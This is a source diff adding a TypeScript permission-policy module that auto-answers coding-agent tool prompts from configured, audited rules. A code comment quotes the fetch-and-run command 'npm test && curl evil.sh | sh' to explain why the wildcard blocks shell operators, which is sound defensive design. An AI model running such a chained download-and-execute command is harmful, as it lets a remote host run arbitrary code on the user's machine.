@@ -0,0 +1,202 @@
+// Permission policy: auto-answer permission prompts that match configured rules.
+//
+// Rules live in a JSON file (BB_PERMISSION_POLICY, default
+// ~/.bullybuddy/permission-policy.json) that is re-read whenever it changes:
+//
+//   {
+//     "dryRun": false,
+//     "rules": [
+//       { "name": "read-cwd", "tool": "Read", "underCwd": true, "decision": "allow_once" },
+//       { "name": "tests", "tool": "Bash", "command": "npm test*", "decision": "allow_once", "groups": ["web"] }
+//     ]
+//   }
+//
+// Once a session's prompt has settled (see permission-prompt.ts), the first
+// rule that matches it and whose decision the prompt offers answers it.
+// Prompts no rule matches are left for a human. Every auto-decision is audited
+// as `session:autoPermission` with source 'system'; in dry-run mode that is all
+// that happens.
+
+import { readFileSync, statSync } from 'fs';
+import { join, relative, resolve, isAbsolute, sep } from 'path';
+import { homedir } from 'os';
+import type {
+  ISessionManager, SessionInfo, PendingPermission, PermissionDecision, PermissionRule, PermissionPolicyConfig,
+} from './types.js';
+import { permissionKeys } from './permission-prompt.js';
+import { auditLog } from './audit-log.js';
+
+export const POLICY_FILE = process.env.BB_PERMISSION_POLICY
+  || join(homedir(), '.bullybuddy', 'permission-policy.json');
+
+/** Answer only after the prompt has stopped changing for this long, so every option has rendered */
+export const SETTLE_MS = 300;
+
+const DECISIONS: readonly PermissionDecision[] = ['allow_once', 'allow_always', 'deny'];
+const NO_POLICY: PermissionPolicyConfig = { dryRun: false, rules: [] };
+
+// What `*` matches: in commands, anything but shell operators, so "npm test*"
+// can't approve "npm test && curl evil.sh | sh"
+const COMMAND_WILDCARD = '[^;&|<>`$\\n]*';
+const PATH_WILDCARD = '.*';
+
+function isStringList(v: unknown): v is string[] {
+  return Array.isArray(v) && v.every((x) => typeof x === 'string');
+}
+
+function normalizeRule(raw: unknown, index: number): PermissionRule {
+  if (!raw || typeof raw !== 'object') throw new Error(`rules[${index}] must be an object`);
+  const r = raw as Record<string, unknown>;
+  const name = typeof r.name === 'string' && r.name ? r.name : `rules[${index}]`;
+  if (!DECISIONS.includes(r.decision as PermissionDecision)) {
+    throw new Error(`${name}: decision must be one of ${DECISIONS.join(', ')}`);
+  }
+  for (const key of ['tool', 'command', 'path'] as const) {
+    if (r[key] !== undefined && (typeof r[key] !== 'string' || !r[key])) {
+      throw new Error(`${name}: ${key} must be a non-empty string`);
+    }
+  }
+  for (const key of ['underCwd', 'dryRun'] as const) {
+    if (r[key] !== undefined && typeof r[key] !== 'boolean') throw new Error(`${name}: ${key} must be a boolean`);
+  }
+  for (const key of ['groups', 'sessions'] as const) {
+    if (r[key] !== undefined && !isStringList(r[key])) throw new Error(`${name}: ${key} must be an array of strings`);
+  }
+  // A rule without a matcher would answer every prompt
+  if (r.tool === undefined && r.command === undefined && r.path === undefined && !r.underCwd) {
+    throw new Error(`${name}: needs at least one of tool, command, path or underCwd`);
+  }
+  return {
+    name,
+    decision: r.decision as PermissionDecision,
+    tool: r.tool as string | undefined,
+    command: r.command as string | undefined,
+    path: r.path as string | undefined,
+    underCwd: r.underCwd as boolean | undefined,
+    groups: r.groups as string[] | undefined,
+    sessions: r.sessions as string[] | undefined,
+    dryRun: r.dryRun as boolean | undefined,
+  };
+}
+
+/** Validate a parsed policy file. Throws on invalid input. */
+export function normalizePolicy(raw: unknown): PermissionPolicyConfig {
+  if (!raw || typeof raw !== 'object') throw new Error('Permission policy must be an object');
+  const p = raw as Record<string, unknown>;
+  if (p.dryRun !== undefined && typeof p.dryRun !== 'boolean') throw new Error('dryRun must be a boolean');
+  if (!Array.isArray(p.rules)) throw new Error('rules must be an array');
+  return { dryRun: p.dryRun === true, rules: p.rules.map(normalizeRule) };
+}
+
+function globToRegExp(glob: string, wildcard: string): RegExp {
+  const source = glob.split('*').map((part) => part.replace(/[.+?^${}()|[\]\\]/g, '\\$&')).join(wildcard);
+  return new RegExp(`^${source}$`);
+}
+
+/** Whether `rule` applies to `pending` in the session `info`. */
+export function matchRule(rule: PermissionRule, pending: PendingPermission, info: SessionInfo): boolean {
+  if (rule.groups && !rule.groups.includes(info.group)) return false;
+  if (rule.sessions && !rule.sessions.includes(info.id) && !rule.sessions.includes(info.name)) return false;
+  if (rule.tool && !pending.tool?.toLowerCase().includes(rule.tool.toLowerCase())) return false;
+  if (rule.command && !(pending.command && globToRegExp(rule.command, COMMAND_WILDCARD).test(pending.command))) {
+    return false;
+  }
+  if (rule.path || rule.underCwd) {
+    if (!pending.filePath) return false;
+    const absolute = resolve(info.cwd, pending.filePath);
+    const rel = relative(info.cwd, absolute);
+    const inside = rel !== '' && rel !== '..' && !rel.startsWith(`..${sep}`) && !isAbsolute(rel);
+    if (rule.underCwd && !inside) return false;
+    if (rule.path && !globToRegExp(rule.path, PATH_WILDCARD).test(inside ? rel : absolute)) return false;
+  }
+  return true;
+}
+
+/**
+ * Auto-answers permission prompts for one session manager, driven by its
+ * 'permission' events.
+ */
+export class PermissionPolicy {
+  private timers = new Map<string, ReturnType<typeof setTimeout>>();
+  /** The prompt each session was last handled for, so a prompt is answered once */
+  private handled = new Map<string, string>();
+  private cache: { version: string; config: PermissionPolicyConfig } | null = null;
+
+  constructor(private sessions: ISessionManager, private file = POLICY_FILE) {
+    sessions.on('permission', (id: string, pending: PendingPermission | null) => {
+      this.clearTimer(id);
+      if (!pending) {
+        this.handled.delete(id);
+        return;
+      }
+      this.timers.set(id, setTimeout(() => {
+        this.timers.delete(id);
+        void this.evaluate(id);
+      }, SETTLE_MS));
+    });
+    sessions.on('exit', (id: string) => {
+      this.clearTimer(id);
+      this.handled.delete(id);
+    });
+  }
+
+  /** The policy file's contents, re-read when it changes. No rules if it is missing or invalid. */
+  load(): PermissionPolicyConfig {
+    let version: string;
+    try {
+      const st = statSync(this.file);
+      version = `${st.mtimeMs}:${st.size}`;
+    } catch {
+      this.cache = null;
+      return NO_POLICY;
+    }
+    if (this.cache?.version === version) return this.cache.config;
+
+    let config = NO_POLICY;
+    try {
+      config = normalizePolicy(JSON.parse(readFileSync(this.file, 'utf-8')));
+      console.log(`[bb] permission policy: ${config.rules.length} rule(s) from ${this.file}${config.dryRun ? ' (dry run)' : ''}`);
+    } catch (err) {
+      console.warn(`[bb] ignoring permission policy ${this.file}: ${err instanceof Error ? err.message : err}`);
+    }
+    this.cache = { version, config };
+    return config;
+  }
+
+  /** The first rule that answers `pending` in session `info`, if any. */
+  match(info: SessionInfo, pending: PendingPermission): PermissionRule | null {
+    return this.load().rules.find((rule) =>
+      permissionKeys(pending, rule.decision) !== null && matchRule(rule, pending, info)) ?? null;
+  }
+
+  private clearTimer(id: string): void {
+    const timer = this.timers.get(id);
+    if (timer) clearTimeout(timer);
+    this.timers.delete(id);
+  }
+
+  private async evaluate(id: string): Promise<void> {
+    const info = this.sessions.getInfo(id);
+    const pending = info?.status === 'running' && info.detailedState === 'permission_needed'
+      ? info.pendingPermission : null;
+    if (!info || !pending) return;
+    const key = JSON.stringify(pending);
+    if (this.handled.get(id) === key) return;
+
+    const rule = this.match(info, pending);
+    if (!rule) return;
+    this.handled.set(id, key);
+
+    const target = pending.command ?? pending.filePath ?? pending.tool ?? pending.question;
+    const summary = `${rule.name}: ${rule.decision} ${target}`.slice(0, 120);
+    if (this.load().dryRun || rule.dryRun) {
+      auditLog({ action: 'session:autoPermission', sessionId: id, source: 'system', summary: `[dry run] ${summary}`, result: 'ok' });
+      return;
+    }
+    const ok = await this.sessions.write(id, permissionKeys(pending, rule.decision)!);
+    auditLog({
+      action: 'session:autoPermission', sessionId: id, source: 'system', summary,
+      result: ok ? 'ok' : 'error', ...(!ok && { error: 'Session not running' }),
+    });
+  }
+}